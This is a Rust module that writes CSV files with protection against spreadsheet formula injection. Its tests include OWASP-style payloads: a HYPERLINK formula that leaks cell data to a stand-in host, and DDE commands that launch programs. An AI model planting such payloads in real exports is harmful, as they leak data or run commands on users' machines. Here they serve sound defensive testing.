//! The one CSV writer of every CSV that Palermo writes: the CLI's outputs
//! (`stats indicators --format csv`, `cases indicators`, `cases export`,
//! `treaty status`), the reports of rejected rows (`*.rejected.csv`) and
//! the web API's `format=csv`.
//!
//! Fields are quoted by the `csv` crate (RFC 4180: a field with a comma,
//! a quote, `\r` or `\n` is quoted, quotes doubled) and **neutralised
//! against formula injection** (CSV injection, CWE-1236): a field that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written
//! with a single quote in front, so that a spreadsheet shows it as text
//! instead of evaluating it (OWASP, "CSV Injection": "prepend each cell
//! field with a single quote"). A field that is a plain number (`-3`,
//! `+1.5`) is left as it is: a spreadsheet reads it as the number it is,
//! never as a formula.
//!
//! The writer takes any [`std::io::Write`] the caller opened (a file, the
//! standard output, a `Vec<u8>`): this module formats, it opens nothing.
//! It sits in the model because both the CLI and the web depend on the
//! model, and the web must not depend on the importers.

use std::borrow::Cow;

pub use csv::Error;

/// The characters that make a spreadsheet read a cell as a formula (or,
/// for tab and carriage return, that hide one after white space).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `s` is a plain decimal number: an optional sign, digits, and at
/// most one decimal point among them (`-3`, `+1.5`, `.5`).
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['-', '+']).unwrap_or(s);
    let mut digits = 0usize;
    let mut points = 0usize;
    for c in body.chars() {
        match c {
            '0'..='9' => digits += 1,
            '.' => points += 1,
            _ => return false,
        }
    }
    digits > 0 && points <= 1
}

/// The field as written: with a single quote in front when it begins with
/// one of `=`, `+`, `-`, `@`, tab or carriage return and is not a plain
/// number; unchanged otherwise.
pub fn neutralise(field: &str) -> Cow<'_, str> {
    if field.starts_with(FORMULA_START) && !is_plain_number(field) {
        Cow::Owned(format!("'{field}"))
    } else {
        Cow::Borrowed(field)
    }
}

/// A CSV writer whose every field goes through [`neutralise`].
#[derive(Debug)]
pub struct CsvWriter<W: std::io::Write> {
    inner: csv::Writer<W>,
}

impl<W: std::io::Write> CsvWriter<W> {
    /// A writer of comma-separated records, `\n`-terminated, to `w`.
    pub fn new(w: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(w),
        }
    }

    /// Writes one record (its fields neutralised and quoted as needed).
    ///
    /// # Errors
    /// I/O errors of the underlying writer.
    pub fn write_record<I, T>(&mut self, record: I) -> Result<(), Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner.write_record(
            record
                .into_iter()
                .map(|f| neutralise(f.as_ref()).into_owned()),
        )
    }

    /// Flushes the buffered records to the underlying writer.
    ///
    /// # Errors
    /// I/O errors of the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The underlying writer (records may still be buffered: [`Self::flush`]
    /// first).
    pub fn get_ref(&self) -> &W {
        self.inner.get_ref()
    }

    /// Flushes and returns the underlying writer.
    ///
    /// # Errors
    /// I/O errors of the flush.
    pub fn into_inner(self) -> Result<W, std::io::Error> {
        self.inner.into_inner().map_err(|e| {
            let kind = e.error().kind();
            std::io::Error::new(kind, e.to_string())
        })
    }
}

/// Records as CSV text (for responses built in memory, such as the web
/// API's `format=csv`).
pub fn to_string<R, I, T>(records: R) -> String
where
    R: IntoIterator<Item = I>,
    I: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    let mut w = CsvWriter::new(Vec::new());
    for r in records {
        // Writing to a Vec<u8> cannot fail.
        let _ = w.write_record(r);
    }
    match w.into_inner() {
        Ok(bytes) => String::from_utf8(bytes).unwrap_or_default(),
        Err(_) => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// OWASP's examples of payloads (CSV Injection page): each is written
    /// with a quote in front, and a spreadsheet that reads the file back
    /// sees text beginning with `'`.
    #[test]
    fn formula_payloads_are_prefixed_with_a_quote() {
        let payloads = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        for p in payloads {
            let out = to_string([[p]]);
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(out.as_bytes());
            let rec = r.records().next().unwrap().unwrap();
            assert_eq!(&rec[0], format!("'{p}"), "{out:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_unchanged() {
        for s in [
            "-3", "+1.5", "0.25", "1282", "Moldova", "", "a=b", "'quoted",
        ] {
            assert_eq!(neutralise(s), s);
        }
        assert_eq!(neutralise("-"), "'-");
        assert_eq!(neutralise("-1-1"), "'-1-1");
        assert_eq!(neutralise("+"), "'+");
    }

    /// RFC 4180 quoting (the lesson of the two hand-written quoters, one of
    /// which forgot `\r`).
    #[test]
    fn fields_with_separators_are_quoted() {
        assert_eq!(
            to_string([["a,b", "say \"hi\"", "x\ry", "plain"]]),
            "\"a,b\",\"say \"\"hi\"\"\",\"x\ry\",plain\n"
        );
    }
}
